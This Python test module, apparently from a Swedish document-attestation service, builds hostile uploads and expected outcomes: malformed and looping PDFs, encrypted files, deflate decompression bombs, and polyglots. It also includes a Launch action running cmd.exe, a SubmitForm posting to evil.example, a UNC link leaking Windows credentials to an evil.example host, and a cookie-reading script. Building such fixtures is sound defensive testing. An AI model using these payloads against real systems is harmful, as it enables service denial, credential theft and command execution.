"""Hostile files for the upload tests, built at test time (no binary file is committed).

Each ``Case`` is one file as an attacker, a broken scanner or a confused user would send it:
damaged PDFs (truncated, garbage, broken or looping cross-reference tables, recursion, cycles
in the page tree, self-referencing object streams), encrypted ones, decompression bombs,
absurd page counts and sizes, active content (JavaScript, Launch, embedded files, XFA),
polyglots, other formats named .pdf, wrong content types and file names that try to leave
the storage. ``expect`` says what the app answers as a bilaga and on the verify page.

The PDFs are assembled by hand (``assemble``) so that each defect is exactly the one named;
the decompression bombs are built from one repeated deflate block, so that a 512 MB bomb
costs a fraction of a second to make and half a megabyte to send.
"""

from __future__ import annotations

import functools
import io
import random
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any, Callable, Mapping

MiB = 1024 * 1024

ACCEPTED, REFUSED = "accepted", "refused"  # as a bilaga
UNUSABLE, REPORT = "unusable", "report"  # on the verify page: refused with a reason, or a report


@dataclass(frozen=True)
class Case:
    """One hostile upload and what the app answers to it."""

    name: str
    build: Callable[[], bytes]
    bilaga: str  # ACCEPTED | REFUSED
    bilaga_says: str = ""  # a phrase of the Swedish refusal
    verify: str = REPORT  # UNUSABLE | REPORT
    verify_says: str = ""  # a phrase of the verify page's reason or report
    filename: str = "bilaga.pdf"
    content_type: str = "application/pdf"
    stored_name: str = ""  # the name a bilaga is kept under, when it is accepted
    # Accepted without something (attest.pdf.inert): a phrase of what the handläggare is
    # told was removed. "" when it is kept byte for byte.
    removed: str = ""

    @property
    def data(self) -> bytes:
        return _built(self.build)


@functools.lru_cache(maxsize=None)
def _built(build: Callable[[], bytes]) -> bytes:
    return build()


# --- Building blocks --------------------------------------------------------------------------


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body: the dictionary (with /Length) and the raw data."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def assemble(
    objects: Mapping[int, bytes],
    *,
    root: int = 1,
    trailer: bytes = b"",
    header: bytes = b"%PDF-1.7",
    with_xref: bool = True,
    with_trailer: bool = True,
) -> bytes:
    """A PDF of these numbered objects with a correct classic xref table (unless told not)."""
    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    size = max(offsets) + 1
    if with_xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            if number in offsets:
                out += b"%010d 00000 n \n" % offsets[number]
            else:
                out += b"0000000000 65535 f \n"
    if with_trailer:
        out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (size, root, trailer)
        out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def embedded_font() -> tuple[bytes, bytes]:
    """DejaVu Sans (attest's font) as reportlab embeds it, subset to ASCII (codes are the
    characters): the font dictionary, to be written inline with its program as object 5,
    and that program's stream. The intake refuses a bilaga whose fonts are not embedded."""
    import pikepdf
    from reportlab.pdfgen import canvas

    from attest.pdf.fonts import FONT_NAME, register_fonts

    register_fonts()
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, invariant=True, initialFontName=FONT_NAME)
    pdf.setFont(FONT_NAME, 12)
    pdf.drawString(10, 10, "".join(chr(code) for code in range(32, 127)))
    pdf.showPage()
    pdf.save()
    with pikepdf.open(io.BytesIO(buffer.getvalue())) as made:
        (font,) = made.pages[0].Resources.Font.values()
        program = font.FontDescriptor.FontFile2
        descriptor = font.FontDescriptor.unparse(resolved=True)
        descriptor = re.sub(rb"/FontFile2 \d+ 0 R", b"/FontFile2 5 0 R", descriptor)
        entries = [
            b"/Type /Font /Subtype /TrueType /BaseFont /AAAAAA+DejaVuSans",
            b"/FirstChar %d /LastChar %d" % (int(font.FirstChar), int(font.LastChar)),
            b"/Widths " + font.Widths.unparse(resolved=True),
            b"/FontDescriptor " + descriptor,
        ]
        raw = program.read_raw_bytes()
        entries_of_program = b"/Filter /FlateDecode /Length1 %d" % int(program.Length1)
    return b"<< " + b" ".join(entries) + b" >>", stream(raw, entries_of_program)


CONTENT = b"BT /F1 18 Tf 72 720 Td (Bilaga) Tj ET"
FONT, FONT_PROGRAM = embedded_font()
FONTS = b"/Font << /F1 %s >>" % FONT
RESOURCES = b"<< %s >>" % FONTS


def simple_objects(
    *, page_extra: bytes = b"", catalog_extra: bytes = b"", mediabox: bytes = b"[0 0 595 842]"
) -> dict[int, bytes]:
    """One page with a line of text: catalog 1, pages 2, page 3, content 4, font program 5."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R %s >>"
        % (mediabox, RESOURCES, page_extra),
        4: stream(CONTENT),
        5: FONT_PROGRAM,
    }


def simple_pdf(**kwargs: bytes) -> bytes:
    return assemble(simple_objects(**kwargs))


def real_pdf(pages: int = 2) -> bytes:
    """A PDF made by reportlab, as a real bilaga is made by a real program."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    from attest.pdf.fonts import FONT_NAME, register_fonts

    register_fonts()
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=True, initialFontName=FONT_NAME)
    for number in range(1, pages + 1):
        pdf.setFont(FONT_NAME, 12)
        pdf.drawString(72, 750, f"Slutrapport sida {number}")
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def deflate_bomb(size: int, byte: bytes = b" ", chunk: int = MiB) -> bytes:
    """A zlib stream that inflates to ``size`` bytes of ``byte`` (about 1000:1).

    Each chunk is compressed after a full flush, so every chunk's deflate block is the same
    bytes: the block is made once and repeated, and only the checksum sees every byte.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(byte * chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    count, rest = divmod(size, chunk)
    tail = compressor.compress(byte * rest) + compressor.flush(zlib.Z_FINISH)
    checksum, piece = 1, byte * chunk
    for _ in range(count):
        checksum = zlib.adler32(piece, checksum)
    checksum = zlib.adler32(byte * rest, checksum)
    return b"\x78\xda" + block * count + tail + struct.pack(">I", checksum)


# --- Damaged structure ------------------------------------------------------------------------


def truncated() -> bytes:
    data = real_pdf()
    return data[: len(data) * 3 // 5]


def header_only() -> bytes:
    return b"%PDF-1.7\n"


def garbage_after_header() -> bytes:
    return b"%PDF-1.7\n" + random.Random(8).randbytes(6000)


def broken_xref() -> bytes:
    """Every xref offset points 11 bytes off; startxref points into an object."""
    data = simple_pdf()
    start = data.index(b"xref\n0 6\n")
    table = data[start : data.index(b"trailer", start)]
    lines = table.split(b"\n")
    shifted = [
        b"%010d 00000 n " % (int(line[:10]) + 11) if line.endswith(b" n ") else line
        for line in lines
    ]
    data = data.replace(table, b"\n".join(shifted))
    return data.replace(b"startxref\n%d" % start, b"startxref\n%d" % (start // 2))


def missing_trailer() -> bytes:
    return assemble(simple_objects(), with_trailer=False)


def no_xref_no_trailer() -> bytes:
    return assemble(simple_objects(), with_xref=False, with_trailer=False) + b"%%EOF\n"


def xref_prev_self() -> bytes:
    """The trailer's /Prev names the very xref section it belongs to."""
    data = simple_pdf()
    xref_at = data.rindex(b"xref\n0 ")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % xref_at)


def xref_prev_loop() -> bytes:
    """Two xref sections whose /Prev point at each other."""
    first = simple_pdf()
    first_xref = first.rindex(b"xref\n0 ")
    second_xref = len(first)
    update = (
        b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (first_xref, second_xref)
    )
    first = first.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % second_xref)
    return first + update


def xref_stream_prev_self() -> bytes:
    """A cross-reference stream whose /Prev is its own offset."""
    objects = simple_objects()
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    offsets[6] = xref_at
    rows = b"\x00\x00\x00\x00\xff" + b"".join(
        b"\x01" + struct.pack(">I", offsets[n]) for n in range(1, 7)
    )
    entries = b"/Type /XRef /Size 7 /W [1 4 0] /Root 1 0 R /Prev %d" % xref_at
    out += b"6 0 obj\n" + stream(rows, entries) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def deep_arrays(depth: int = 100_000) -> bytes:
    return simple_pdf(page_extra=b"/Deep " + b"[" * depth + b"]" * depth)


def deep_dictionaries(depth: int = 50_000) -> bytes:
    return simple_pdf(page_extra=b"/Deep " + b"<< /A " * depth + b"1" + b" >>" * depth)


def object_stream_self() -> bytes:
    """Object 2 (the page tree) lives in object stream 6, which itself is said to live in
    object stream 6 and /Extends itself."""
    objects = simple_objects()
    pages = objects.pop(2)
    header = b"2 0 "
    body = header + pages
    objstm = stream(body, b"/Type /ObjStm /N 1 /First %d /Extends 6 0 R" % len(header))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in [*objects.items(), (6, objstm)]:
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_at = len(out)
    offsets[7] = xref_at
    rows = [b"\x00\x00\x00\x00\xff"]
    for number in range(1, 8):
        if number in (2, 6):  # both "in object stream 6"
            rows.append(b"\x02" + struct.pack(">I", 6) + b"\x00")
        else:
            rows.append(b"\x01" + struct.pack(">I", offsets[number]) + b"\x00")
    entries = b"/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R"
    out += b"7 0 obj\n" + stream(b"".join(rows), entries) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def page_tree_cycle() -> bytes:
    """The root's kid is a /Pages node whose kid is the root again."""
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>"
    objects[6] = b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>"
    objects[3] = objects[3].replace(b"/Parent 2 0 R", b"/Parent 6 0 R")
    return assemble(objects)


def page_tree_self() -> bytes:
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return assemble(objects)


def no_pages() -> bytes:
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    del objects[3], objects[4], objects[5]
    return assemble(objects)


# --- Encryption -------------------------------------------------------------------------------


def _encrypted(user: str, owner: str | None, algorithm: str = "AES-256") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(real_pdf(1))).pages:
        writer.add_page(page)
    writer.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_user_password() -> bytes:
    return _encrypted("hemligt", None)


def encrypted_owner_password_only() -> bytes:
    """Opens without a password (empty user password); only changes need the owner's."""
    return _encrypted("", "ägarlösen")


def encrypted_rc4() -> bytes:
    return _encrypted("", "ägarlösen", "RC4-40")


# --- Size: decompression bombs, page counts, dimensions ------------------------------------------

BOMB = 512 * MiB


def bomb_in_page_content() -> bytes:
    objects = simple_objects()
    objects[4] = stream(deflate_bomb(BOMB), b"/Filter /FlateDecode")
    return assemble(objects)


def bomb_in_image() -> bytes:
    """A 16384 x 16384 RGB image (768 MB declared) whose data inflates to 512 MB."""
    objects = simple_objects()
    objects[3] = objects[3].replace(
        b"/Resources " + RESOURCES,
        b"/Resources << %s /XObject << /Im1 6 0 R >> >>" % FONTS,
    )
    objects[4] = stream(b"q 500 0 0 700 50 50 cm /Im1 Do Q " + CONTENT)
    entries = (
        b"/Type /XObject /Subtype /Image /Width 16384 /Height 16384 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode"
    )
    objects[6] = stream(deflate_bomb(BOMB, b"\xff"), entries)
    return assemble(objects)


def bomb_double_flate() -> bytes:
    """Deflate of a deflate bomb: about 1 kB that inflates twice to 256 MB."""
    inner = deflate_bomb(256 * MiB)
    objects = simple_objects()
    objects[4] = stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]")
    return assemble(objects)


def bomb_in_object_stream() -> bytes:
    """The page tree in an object stream padded to 512 MB of whitespace when inflated."""
    objects = simple_objects()
    pages = objects.pop(2)
    header = b"2 0 "
    compressor = zlib.compressobj(9)
    packed = compressor.compress(header + pages) + compressor.flush(zlib.Z_SYNC_FLUSH)
    # The rest: the bomb's deflate blocks after the sync flush, in the same stream.
    padding = deflate_bomb(BOMB)
    raw_blocks = padding[2:-4]
    checksum = zlib.adler32(header + pages)
    # Recompute the checksum over everything the stream inflates to.
    piece = b" " * MiB
    for _ in range(BOMB // MiB):
        checksum = zlib.adler32(piece, checksum)
    data = packed + raw_blocks + struct.pack(">I", checksum)
    entries = b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in [*objects.items(), (6, stream(data, entries))]:
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_at = len(out)
    offsets[7] = xref_at
    rows = [b"\x00\x00\x00\x00\xff"]
    for number in range(1, 8):
        if number == 2:
            rows.append(b"\x02" + struct.pack(">I", 6) + b"\x00")
        else:
            rows.append(b"\x01" + struct.pack(">I", offsets[number]) + b"\x00")
    out += b"7 0 obj\n" + stream(b"".join(rows), b"/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R")
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def hundred_thousand_pages() -> bytes:
    """100 000 pages from one page object: 100 kids of one node of 1000 kids of one page."""
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % (b"6 0 R " * 100)
    objects[6] = b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count 1000 >>" % (b"3 0 R " * 1000)
    objects[3] = objects[3].replace(b"/Parent 2 0 R", b"/Parent 6 0 R")
    return assemble(objects)


def page_count_claims_a_billion() -> bytes:
    objects = simple_objects()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"
    return assemble(objects)


def huge_mediabox() -> bytes:
    return simple_pdf(mediabox=b"[0 0 1000000000 1000000000]")


def degenerate_mediabox() -> bytes:
    return simple_pdf(mediabox=b"[0 0 0 0]")


def garbage_mediabox() -> bytes:
    return simple_pdf(mediabox=b"[/a (b) <<>> null]")


# --- Active content -----------------------------------------------------------------------------


def javascript_open_action() -> bytes:
    return simple_pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")


def javascript_in_names() -> bytes:
    objects = simple_objects(catalog_extra=b"/Names << /JavaScript 6 0 R >>")
    objects[6] = b"<< /Names [(init) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"
    return assemble(objects)


def _with_annotation(annotation: bytes) -> bytes:
    objects = simple_objects(page_extra=b"/Annots [6 0 R]")
    objects[6] = annotation
    return assemble(objects)


def javascript_in_link() -> bytes:
    """A link on the page runs JavaScript: the page (and the link) would be frozen as is."""
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] "
        b"/A << /S /JavaScript /JS (this.exportDataObject\\({cName: 'x'}\\)) >> >>"
    )


def javascript_on_page_open() -> bytes:
    return simple_pdf(page_extra=b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")


def launch_action() -> bytes:
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] "
        b"/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
    )


def submit_form_action() -> bytes:
    return simple_pdf(
        catalog_extra=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) "
        b">> >>"
    )


def embedded_file() -> bytes:
    exe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
    objects = simple_objects(catalog_extra=b"/Names << /EmbeddedFiles 6 0 R >>")
    objects[6] = b"<< /Names [(setup.exe) 7 0 R] >>"
    objects[7] = b"<< /Type /Filespec /F (setup.exe) /EF << /F 8 0 R >> >>"
    objects[8] = stream(exe, b"/Type /EmbeddedFile")
    return assemble(objects)


def file_attachment_annotation() -> bytes:
    objects = simple_objects(page_extra=b"/Annots [6 0 R]")
    objects[6] = b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 7 0 R >>"
    objects[7] = b"<< /Type /Filespec /F (lista.xlsm) /EF << /F 8 0 R >> >>"
    objects[8] = stream(b"PK\x03\x04 macros", b"/Type /EmbeddedFile")
    return assemble(objects)


def xfa_form() -> bytes:
    xdp = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field name="x">'
        b'<event activity="initialize"><script>app.alert(1)</script></event></field>'
        b"</subform></template></xdp:xdp>"
    )
    objects = simple_objects(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >>")
    objects[6] = stream(xdp)
    return assemble(objects)


def uri_link() -> bytes:
    """An ordinary web link, as every report exported from a word processor has: allowed."""
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] "
        b"/A << /S /URI /URI (https://start.stockholm/) >> >>"
    )


def inline_annotation() -> bytes:
    """The same link written inside the page's /Annots array, which ISO 32000 forbids; as it
    stands, the archive timestamp's update of such a page would break every attestation's
    change analysis, so appending gives the link an object of its own (attest.pdf.merge)."""
    annotation = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] "
        b"/A << /S /URI /URI (https://start.stockholm/) >> >>"
    )
    return simple_pdf(page_extra=b"/Annots [%s]" % annotation)


# --- What a viewer shows differently from a printer, and actions the review found ----------

GODKANT = b"BT /F1 28 Tf 10 15 Td (GODKANT) Tj ET"  # what an annotation draws
STAMP_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 200 50] /Resources %s" % RESOURCES


def stamp(flags: int, *, extra: bytes = b"", page_extra: bytes = b"", rollover: bool = False):
    """A page with a stamp annotation drawing GODKANT, with these annotation flags."""

    def build() -> bytes:
        objects = simple_objects(page_extra=b"/Annots [6 0 R] " + page_extra)
        appearance = b"/AP << /N 7 0 R %s >>" % (b"/R 8 0 R" if rollover else b"")
        objects[6] = b"<< /Type /Annot /Subtype /Stamp /Rect [300 600 500 650] /F %d %s %s >>" % (
            flags,
            appearance,
            extra,
        )
        objects[7] = stream(GODKANT, STAMP_FORM)
        if rollover:
            objects[8] = stream(b"BT /F1 28 Tf 10 15 Td (AVSLAGET) Tj ET", STAMP_FORM)
        return assemble(objects)

    return build


def uri_on_page_open() -> bytes:
    """A page that opens a web address when shown (a tracker, or worse)."""
    return simple_pdf(page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/sett) >> >>")


def unc_gotor_link() -> bytes:
    """A link to a file on a UNC path: Windows sends the person's credentials to that host."""
    return _with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] "
        b"/A << /S /GoToR /F (\\\\\\\\fil01.evil.example\\\\delat\\\\x.pdf) /D [0 /Fit] >> >>"
    )


def uri_open_action() -> bytes:
    return simple_pdf(catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >>")


def hidden_stamp_revealed_on_open() -> bytes:
    """A hidden annotation that an action of the page shows when the page is opened."""
    return stamp(HIDDEN_AND_PRINT, page_extra=b"/AA << /O << /S /Hide /T 6 0 R /H false >> >>")()


HIDDEN_AND_PRINT = 2 | 4


def _layered(catalog_ocproperties: bytes, group: bytes = b"<< /Type /OCG /Name (Lager) >>"):
    """A page whose line 'I LAGRET' is in an optional content group."""
    objects = simple_objects(catalog_extra=b"/OCProperties " + catalog_ocproperties)
    objects[3] = objects[3].replace(
        b"/Resources " + RESOURCES,
        b"/Resources << %s /Properties << /L0 6 0 R >> >>" % FONTS,
    )
    objects[4] = stream(CONTENT + b"\n/OC /L0 BDC BT /F1 18 Tf 72 600 Td (I LAGRET) Tj ET EMC")
    objects[6] = group
    return assemble(objects)


def layer_off_by_default() -> bytes:
    return _layered(b"<< /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>")


def layer_printed_differently() -> bytes:
    return _layered(
        b"<< /OCGs [6 0 R] /D << /AS [<< /Event /Print /OCGs [6 0 R] /Category [/Print] >>] >> >>",
        b"<< /Type /OCG /Name (Lager) /Usage << /Print << /PrintState /OFF >> >> >>",
    )


def layer_always_on() -> bytes:
    """Layers as a drawing program exports them, all on: looks the same everywhere."""
    return _layered(b"<< /OCGs [6 0 R] /D << /ON [6 0 R] >> >>")


# --- Other formats, polyglots, sizes ----------------------------------------------------------


def html_then_pdf() -> bytes:
    html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
    return html + real_pdf(1)


def zip_with_pdf() -> bytes:
    """A ZIP archive whose one stored member is a PDF: %PDF- within the first kilobyte."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.pdf", real_pdf(1))
    return buffer.getvalue()


def pdf_then_zip() -> bytes:
    """A real PDF with a ZIP archive after its %%EOF (still a PDF from its first byte)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.txt", "hej")
    return real_pdf(1) + buffer.getvalue()


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("rapport.docx", "inte en pdf")
    return buffer.getvalue()


def html_page() -> bytes:
    return b"<html><body><script>alert(1)</script><p>%PDF? nej</p></body></html>"


def exe() -> bytes:
    return b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run in DOS mode.\r\r\n$"


def empty() -> bytes:
    return b""


def over_size_limit(limit: int) -> Callable[[], bytes]:
    def build() -> bytes:
        data = real_pdf(1)
        return data + b"%" + b"0" * (limit + 1 - len(data))

    build.__name__ = f"over_size_limit_{limit}"
    return build


# --- The corpus ---------------------------------------------------------------------------------

DAMAGED = "kan inte läsas som PDF"
NOT_PDF = "är inte en PDF"
ENCRYPTED = "krypterad"
ACTIVE = "aktivt innehåll"
LAYERS = "har lager (valfritt innehåll)"
OPEN_ACTIONS = "åtgärder som körs när dokumentet eller en sida öppnas"
LINKS = "länkar (klickbara områden)"
VIEW_DEPENDENT = "bara syns på skärmen eller bara vid utskrift"
UNREADABLE = "Filen kunde inte läsas som PDF"
NOT_PDF_VERIFY = "Filen är inte en PDF"
ENCRYPTED_VERIFY = "Filen är krypterad"
UNSIGNED = "Dokumentet innehåller inga signaturer"  # the report's reason for a plain PDF
BYTES_BEFORE = "Före %PDF i filen finns"

# The size limit the tests set (BILAGA_MAX_BYTES): the bombs stay under it, as an
# attacker would keep them.
TEST_MAX_BYTES = 4 * MiB


def cases() -> list[Case]:
    """Every file of the corpus, with its answer as a bilaga and on the verify page."""
    return [
        # Damaged structure
        Case("truncated", truncated, REFUSED, DAMAGED, UNUSABLE, UNREADABLE),
        Case("header_only", header_only, REFUSED, DAMAGED, UNUSABLE, UNREADABLE),
        Case("garbage_after_header", garbage_after_header, REFUSED, DAMAGED, UNUSABLE, UNREADABLE),
        # pypdf (bilagor) repairs a wrong xref table by scanning the file; pyHanko (the verifier)
        # reads a signed file strictly, as it must.
        Case("broken_xref", broken_xref, ACCEPTED, verify=UNUSABLE, verify_says=UNREADABLE),
        Case("missing_trailer", missing_trailer, REFUSED, DAMAGED, UNUSABLE, UNREADABLE),
        Case("no_xref_no_trailer", no_xref_no_trailer, REFUSED, DAMAGED, UNUSABLE, UNREADABLE),
        Case("xref_prev_self", xref_prev_self, ACCEPTED, verify=UNUSABLE, verify_says=UNREADABLE),
        Case("xref_prev_loop", xref_prev_loop, ACCEPTED, verify=UNUSABLE, verify_says=UNREADABLE),
        Case(
            "xref_stream_prev_self",
            xref_stream_prev_self,
            ACCEPTED,
            verify=UNUSABLE,
            verify_says=UNREADABLE,
        ),
        Case("deep_arrays", deep_arrays, REFUSED, DAMAGED, REPORT, UNSIGNED),
        Case("deep_dictionaries", deep_dictionaries, REFUSED, DAMAGED, REPORT, UNSIGNED),
        Case("object_stream_self", object_stream_self, REFUSED, DAMAGED, UNUSABLE, UNREADABLE),
        Case("page_tree_cycle", page_tree_cycle, REFUSED, DAMAGED, REPORT, UNSIGNED),
        Case("page_tree_self", page_tree_self, REFUSED, DAMAGED, REPORT, UNSIGNED),
        Case("no_pages", no_pages, REFUSED, "innehåller inga sidor", verify_says=UNSIGNED),
        # Encryption
        Case(
            "encrypted_user_password",
            encrypted_user_password,
            REFUSED,
            ENCRYPTED,
            UNUSABLE,
            ENCRYPTED_VERIFY,
        ),
        Case(
            "encrypted_owner_password_only",
            encrypted_owner_password_only,
            REFUSED,
            ENCRYPTED,
            UNUSABLE,
            ENCRYPTED_VERIFY,
        ),
        Case("encrypted_rc4", encrypted_rc4, REFUSED, ENCRYPTED, UNUSABLE, ENCRYPTED_VERIFY),
        # Size
        Case("bomb_in_page_content", bomb_in_page_content, REFUSED, "packas upp", REPORT, UNSIGNED),
        Case("bomb_in_image", bomb_in_image, REFUSED, "packas upp", REPORT, UNSIGNED),
        Case("bomb_double_flate", bomb_double_flate, REFUSED, "packas upp", REPORT, UNSIGNED),
        Case(
            "bomb_in_object_stream",
            bomb_in_object_stream,
            REFUSED,
            DAMAGED,
            UNUSABLE,
            UNREADABLE,
        ),
        Case(
            "hundred_thousand_pages",
            hundred_thousand_pages,
            REFUSED,
            "har 100000 sidor",
            REPORT,
            UNSIGNED,
        ),
        Case(
            "page_count_claims_a_billion",
            page_count_claims_a_billion,
            REFUSED,
            "har 1000000000 sidor",
            REPORT,
            UNSIGNED,
        ),
        Case("huge_mediabox", huge_mediabox, REFUSED, "sidstorlek", REPORT, UNSIGNED),
        Case("degenerate_mediabox", degenerate_mediabox, REFUSED, "sidstorlek", REPORT, UNSIGNED),
        Case("garbage_mediabox", garbage_mediabox, REFUSED, "sidstorlek", REPORT, UNSIGNED),
        # Active content: actions are removed; embedded files and XFA refuse the file
        Case(
            "javascript_open_action",
            javascript_open_action,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed=OPEN_ACTIONS,
        ),
        Case(
            "javascript_in_names",
            javascript_in_names,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed="JavaScript",
        ),
        Case(
            "javascript_in_link", javascript_in_link, ACCEPTED, verify_says=UNSIGNED, removed=LINKS
        ),
        Case(
            "javascript_on_page_open",
            javascript_on_page_open,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed=OPEN_ACTIONS,
        ),
        Case("launch_action", launch_action, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
        Case(
            "submit_form_action",
            submit_form_action,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed=OPEN_ACTIONS,
        ),
        Case("embedded_file", embedded_file, REFUSED, ACTIVE, REPORT, UNSIGNED),
        # Shown on screen only: removed, and the embedded file with it.
        Case(
            "file_attachment_annotation",
            file_attachment_annotation,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed=VIEW_DEPENDENT,
        ),
        Case("xfa_form", xfa_form, REFUSED, ACTIVE, REPORT, UNSIGNED),
        Case("uri_link", uri_link, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
        Case("inline_annotation", inline_annotation, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
        # What the review found: actions that open addresses and files, view-dependent content
        Case(
            "uri_on_page_open",
            uri_on_page_open,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed=OPEN_ACTIONS,
        ),
        Case("unc_gotor_link", unc_gotor_link, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
        Case(
            "uri_open_action",
            uri_open_action,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed=OPEN_ACTIONS,
        ),
        Case(
            "print_only_stamp",
            stamp(4 | 32),
            ACCEPTED,
            verify_says=UNSIGNED,
            removed=VIEW_DEPENDENT,
        ),
        Case("screen_only_stamp", stamp(0), ACCEPTED, verify_says=UNSIGNED, removed=VIEW_DEPENDENT),
        Case(
            "hidden_stamp_revealed_on_open",
            hidden_stamp_revealed_on_open,
            ACCEPTED,
            verify_says=UNSIGNED,
            removed="dolda anteckningar",
        ),
        Case(
            "rollover_stamp",
            stamp(4, rollover=True),
            ACCEPTED,
            verify_says=UNSIGNED,
            removed="under muspekaren",
        ),
        Case("printed_stamp", stamp(4), ACCEPTED, verify_says=UNSIGNED),
        Case("layer_off_by_default", layer_off_by_default, REFUSED, LAYERS, REPORT, UNSIGNED),
        Case(
            "layer_printed_differently",
            layer_printed_differently,
            REFUSED,
            LAYERS,
            REPORT,
            UNSIGNED,
        ),
        Case("layer_always_on", layer_always_on, ACCEPTED, verify_says=UNSIGNED),
